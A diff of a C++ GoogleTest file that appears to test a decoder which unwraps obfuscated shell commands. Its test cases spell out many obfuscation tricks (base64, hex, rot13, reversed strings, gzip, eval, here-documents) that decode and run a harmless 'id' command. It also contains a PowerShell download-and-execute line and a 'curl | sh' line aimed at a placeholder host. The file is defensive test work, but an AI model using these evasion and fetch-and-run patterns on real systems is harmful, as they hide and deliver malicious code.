@@ -24,98 +24,104 @@ void PrintTo(const ShellCase& row, std::ostream* out) { *out << row.name; }
 constexpr ShellCase kCases[] = {
     {"BackticksVariable", R"sh(export D="aWQgPiAvdG1wL3g="
 bash -c "`echo "$D" | base64 -d`"
-)sh", LayerKind::Shell, "bash base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
     {"Braces", R"sh(bash -c "{echo,aWQgPiAvdG1wL3g=}|{base64,-d}|{bash,-i}"
-)sh", LayerKind::Shell, "bash base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
     {"CodeOfSubstitution", R"sh(bash -c "$(echo aWQgPiAvdG1wL3g= | base64 -d)"
-)sh", LayerKind::Shell, "bash base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
     {"EchoEscapes", R"sh(echo -e '\x69\x64' | bash
-)sh", LayerKind::Shell, "bash escapes",
-     R"sh(id)sh"},
+)sh",
+     LayerKind::Shell, "bash escapes", R"sh(id)sh"},
     {"EchoPython", R"sh(echo "import os; os.system('id')" | python3
-)sh", LayerKind::Python, "python3",
-     R"sh(import os; os.system('id'))sh"},
+)sh",
+     LayerKind::Python, "python3", R"sh(import os; os.system('id'))sh"},
     {"Eval", R"sh(eval "$(echo aWQgPiAvdG1wL3g= | base64 --decode)"
-)sh", LayerKind::Shell, "eval base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "eval base64", R"sh(id > /tmp/x)sh"},
     {"Gunzip", R"sh(echo H4sIAAAAAAAAA8tMUbBT0C/JLdCvAAAqMM5uCwAAAA== | base64 -d | gunzip -c | bash
-)sh", LayerKind::Shell, "bash gzip base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "bash gzip base64", R"sh(id > /tmp/x)sh"},
     {"HereDocumentFile", R"sh(cat > /tmp/a.py <<EOF
 import os
 os.system("id")
 EOF
 python3 /tmp/a.py
-)sh", LayerKind::Python, "python3 written file",
+)sh",
+     LayerKind::Python, "python3 written file",
      R"sh(import os
 os.system("id")
 )sh"},
     {"HereDocumentPiped", R"sh(base64 -d <<EOF | bash
 aWQgPiAvdG1wL3g=
 EOF
-)sh", LayerKind::Shell, "bash base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
     {"HereDocumentPython", R"sh(python3 <<'EOF'
 import os
 os.system("id")
 EOF
-)sh", LayerKind::Python, "python3",
+)sh",
+     LayerKind::Python, "python3",
      R"sh(import os
 os.system("id")
 )sh"},
     {"HereString", R"sh(base64 -d <<< aWQgPiAvdG1wL3g= | sh
-)sh", LayerKind::Shell, "sh base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "sh base64", R"sh(id > /tmp/x)sh"},
     {"HereStringOfSubstitution", R"sh(bash <<< "$(echo aWQgPiAvdG1wL3g= | base64 -d)"
-)sh", LayerKind::Shell, "bash base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
     {"OpensslBase64", R"sh(openssl enc -base64 -d <<< aWQgPiAvdG1wL3g= | sh
-)sh", LayerKind::Shell, "sh base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "sh base64", R"sh(id > /tmp/x)sh"},
     {"PipedPython", R"sh(echo aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ== | base64 -d | python3 -
-)sh", LayerKind::Python, "python3 base64",
+)sh",
+     LayerKind::Python, "python3 base64",
      R"sh(import os
 os.system("id"))sh"},
-    {"PowerShellCommand", R"sh(powershell -Command "IEX (New-Object Net.WebClient).DownloadString('http://h.example.invalid/a.ps1')"
-)sh", LayerKind::PowerShell, "powershell",
+    {"PowerShellCommand",
+     R"sh(powershell -Command "IEX (New-Object Net.WebClient).DownloadString('http://h.example.invalid/a.ps1')"
+)sh",
+     LayerKind::PowerShell, "powershell",
      R"sh(IEX (New-Object Net.WebClient).DownloadString('http://h.example.invalid/a.ps1'))sh"},
     {"PrintfEscapes", R"sh(printf '\x69\x64\x20\x3e\x20\x2f\x74\x6d\x70\x2f\x78' | sh
-)sh", LayerKind::Shell, "sh printf",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "sh printf", R"sh(id > /tmp/x)sh"},
     {"ProcessSubstitution", R"sh(sh <(echo aWQgPiAvdG1wL3g= | base64 -d)
-)sh", LayerKind::Shell, "sh base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "sh base64", R"sh(id > /tmp/x)sh"},
     {"PythonCodeOfSubstitution", R"sh(python3 -c "$(echo aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ== | base64 -d)"
-)sh", LayerKind::Python, "python3 base64",
+)sh",
+     LayerKind::Python, "python3 base64",
      R"sh(import os
 os.system("id"))sh"},
     {"Rev", R"sh(echo =g3Lw1GdvAiPgQWa | rev | base64 -d | sh
-)sh", LayerKind::Shell, "sh base64 reverse",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "sh base64 reverse", R"sh(id > /tmp/x)sh"},
     {"SubstitutionAsCommand", R"sh($(printf '\151\144') > /tmp/x
-)sh", LayerKind::Shell, "sh printf",
-     R"sh(id)sh"},
+)sh",
+     LayerKind::Shell, "sh printf", R"sh(id)sh"},
     {"Sudo", R"sh(echo aWQgPiAvdG1wL3g=|base64 -d|sudo bash -s
-)sh", LayerKind::Shell, "bash base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
     {"Translate", R"sh(echo vq | tr 'a-z' 'n-za-m' | sh
-)sh", LayerKind::Shell, "sh translate",
-     R"sh(id)sh"},
+)sh",
+     LayerKind::Shell, "sh translate", R"sh(id)sh"},
     {"Variable", R"sh(A=aWQgPiAvdG1wL3g=; echo $A | base64 -d | sh
-)sh", LayerKind::Shell, "sh base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "sh base64", R"sh(id > /tmp/x)sh"},
     {"VariablesJoined", R"sh(X='echo aWQ'; Y='gPiAvdG1wL3g='; eval $(echo "${X#echo }$Y" | base64 -d)
-)sh", LayerKind::Shell, "eval base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "eval base64", R"sh(id > /tmp/x)sh"},
     {"WrittenAndRun", R"sh(echo aWQgPiAvdG1wL3g= | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x
-)sh", LayerKind::Shell, "sh written file base64",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "sh written file base64", R"sh(id > /tmp/x)sh"},
     {"Xxd", R"sh(echo 6964203e202f746d702f78 | xxd -r -p | sh
-)sh", LayerKind::Shell, "sh hex",
-     R"sh(id > /tmp/x)sh"},
+)sh",
+     LayerKind::Shell, "sh hex", R"sh(id > /tmp/x)sh"},
 };
 
 class ShellCode : public testing::TestWithParam<ShellCase> {};
@@ -134,14 +140,23 @@ TEST_P(ShellCode, BecomesALayer) {
 }
 
 INSTANTIATE_TEST_SUITE_P(Cases, ShellCode, testing::ValuesIn(kCases),
-                         [](const testing::TestParamInfo<ShellCase>& row) { return std::string(row.param.name); });
+                         [](const testing::TestParamInfo<ShellCase>& row) {
+                           return std::string(row.param.name);
+                         });
 
 TEST(ShellCodeBounds, WhatIsNotKnownIsNoLayer) {
   constexpr std::string_view kTexts[] = {
-      "echo $UNKNOWN | base64 -d | sh", "cat /etc/motd | sh",        "curl http://h.example.invalid | sh",
-      "for A in x y; do eval $A; done", "read A; echo $A | bash",    "bash -c 'echo hello'",
-      "eval 'echo hello'",              "echo aWQ= | base64 -d",     "A=$(date); echo \"$A\" | sh",
-      "python3 script.py < data",       "echo '{\"a\": 1}' | jq .a",
+      "echo $UNKNOWN | base64 -d | sh",
+      "cat /etc/motd | sh",
+      "curl http://h.example.invalid | sh",
+      "for A in x y; do eval $A; done",
+      "read A; echo $A | bash",
+      "bash -c 'echo hello'",
+      "eval 'echo hello'",
+      "echo aWQ= | base64 -d",
+      "A=$(date); echo \"$A\" | sh",
+      "python3 script.py < data",
+      "echo '{\"a\": 1}' | jq .a",
   };
   for (const std::string_view text : kTexts) {
     EXPECT_EQ(unwrap(std::string(text), LayerKind::Shell).layers.size(), 1u) << text;
